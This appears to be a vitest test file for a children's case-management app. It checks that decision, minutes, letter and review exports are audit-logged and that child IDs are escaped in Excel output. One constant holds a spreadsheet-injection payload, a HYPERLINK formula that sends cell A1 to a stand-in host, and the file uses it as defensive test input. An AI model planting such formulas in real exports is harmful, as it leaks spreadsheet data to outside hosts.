import { sqliteConnection } from '../../src/main/core/store/engine/sqlite'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import type { Context } from '../../src/main/core/context'
import { recordDecision } from '../../src/main/core/panel/decisions'
import { exportDecisions, renderLetter, renderMinutes } from '../../src/main/core/panel/outputs'
import { openCycle } from '../../src/main/core/review/cycles'
import { exportCycle } from '../../src/main/core/review/export'
import { checkDb } from '../../src/main/core/store/check'
import { export903 } from '../../src/main/core/io/ssda903/export'
import { testEngine } from '../helpers/postgres'
import { demoContext, tempDir } from '../helpers/tmp'
import { meetingFixture } from './panel/fixture'
import { firstOf, itemAt } from '../helpers/defined'

const hostileId = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'

/** Gives a child a hostile ID everywhere it appears, as a crafted import could. */
async function renameChild(ctx: Context, from: string, to: string): Promise<void> {
  if (testEngine() === 'postgres') return await renameChildOnPostgres(ctx, from, to)
  const tables = (await ctx.db
    .prepare("SELECT m.name FROM sqlite_master m JOIN pragma_table_info(m.name) c ON c.name = 'child_id' WHERE m.type = 'table'")
    .pluck()
    .all()) as string[]
  sqliteConnection(ctx.db, 'test').pragma('foreign_keys = OFF')
  await ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
  for (const t of tables.filter((name) => name !== 'tracker_dirty')) await ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
  sqliteConnection(ctx.db, 'test').pragma('foreign_keys = ON')
}

/**
 * PostgreSQL cannot switch foreign keys off, so the child is copied under its new ID,
 * every row that refers to it moves across, and the old child goes.
 */
async function renameChildOnPostgres(ctx: Context, from: string, to: string): Promise<void> {
  await ctx.db.transaction(async () => {
    const tables = (await ctx.db
      .prepare(
        `SELECT c.table_name FROM information_schema.columns c
         JOIN information_schema.tables t ON t.table_schema = c.table_schema AND t.table_name = c.table_name AND t.table_type = 'BASE TABLE'
         WHERE c.table_schema = current_schema() AND c.column_name = 'child_id' AND c.table_name NOT IN ('child', 'tracker_dirty') ORDER BY c.table_name`
      )
      .pluck()
      .all()) as string[]
    const columns = (
      (await ctx.db
        .prepare(
          "SELECT column_name FROM information_schema.columns WHERE table_schema = current_schema() AND table_name = 'child' AND column_name <> 'child_id' ORDER BY ordinal_position"
        )
        .pluck()
        .all()) as string[]
    ).join(', ')
    await ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
    await ctx.db.prepare(`INSERT INTO child (child_id, ${columns}) SELECT ?, ${columns} FROM child WHERE child_id = ?`).run(to, from)
    for (const t of tables) await ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
    await ctx.db.prepare('DELETE FROM child WHERE child_id = ?').run(from)
  })()
}

async function cellsOf(base64: string, sheetName: string, column: number): Promise<unknown[]> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(Buffer.from(base64, 'base64') as never)
  const values: unknown[] = []
  book.getWorksheet(sheetName)!.eachRow((row, n) => n > 1 && values.push(row.getCell(column).value))
  return values
}

const exportsLogged = async (ctx: Context) =>
  (await ctx.db.prepare("SELECT who, action, entity_id, after FROM audit_log WHERE action LIKE '%.export' ORDER BY id").all()) as {
    who: string
    action: string
    entity_id: string
    after: string
  }[]

describe('exports that carry names', () => {
  it('log the 903 export with the files it wrote', async () => {
    const ctx = await demoContext({ asOf: '2020-03-31', lookedAfter: 10 })
    const result = await export903(ctx, tempDir())
    const logged = firstOf((await ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all()) as { who: string; after: string }[])
    expect(logged.who).toBe('tester')
    expect(JSON.parse(logged.after)).toEqual({
      what: `903 Header.csv and Episodes.csv: ${result.children} children, ${result.episodeRows} episodes`,
      where: `${result.header}, ${result.episodes}`
    })
  })

  it('escape a formula-like child ID in the decisions workbook and log who exported what, where', async () => {
    const { ctx, meetingId, children } = await meetingFixture()
    await renameChild(ctx, firstOf(children), hostileId)
    await recordDecision(ctx, {
      itemId: (await ctx.db.prepare('SELECT id FROM agenda_item WHERE child_id = ?').pluck().get(hostileId)) as number,
      outcome: 'agreed',
      reasons: 'Settled and thriving'
    })
    const file = await exportDecisions(ctx, meetingId)
    const ids = await cellsOf(file.contentBase64, 'Decisions', 2)
    expect(ids).toContain(`'${hostileId}`)
    expect(ids.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false)
    await renderMinutes(ctx, meetingId)
    await renderLetter(ctx, meetingId, hostileId)
    const logged = await exportsLogged(ctx)
    expect(logged.map((l) => l.action)).toEqual(['panel.decisions.export', 'panel.minutes.export', 'panel.letter.export'])
    expect(logged.every((l) => l.who === 'tester')).toBe(true)
    expect(JSON.parse(firstOf(logged).after)).toEqual({ what: expect.stringContaining(file.fileName), where: 'download' })
    expect(JSON.parse(itemAt(logged, 2).after).what).toContain(hostileId)
    expect((await checkDb(ctx.db)).audit.ok).toBe(true)
  })

  it('escape a formula-like child ID in the review workbook and log the export with its destination', async () => {
    const ctx = await demoContext({ asOf: '2020-03-31', lookedAfter: 150 })
    const cycle = await openCycle(ctx, { startDate: '2020-03-31' })
    const first = (await ctx.db.prepare('SELECT child_id FROM review_item WHERE cycle_id = ? ORDER BY id LIMIT 1').pluck().get(cycle.id)) as string
    await renameChild(ctx, first, hostileId)
    const file = await exportCycle(ctx, cycle.id, '/reports/q1.xlsx')
    const ids = await cellsOf(file.contentBase64, 'Children', 1)
    expect(ids).toContain(`'${hostileId}`)
    expect(ids.some((v) => typeof v === 'string' && v.startsWith('='))).toBe(false)
    const logged = firstOf(await exportsLogged(ctx))
    expect(logged).toMatchObject({ who: 'tester', action: 'review.export', entity_id: String(cycle.id) })
    expect(JSON.parse(logged.after).where).toBe('/reports/q1.xlsx')
  })
})
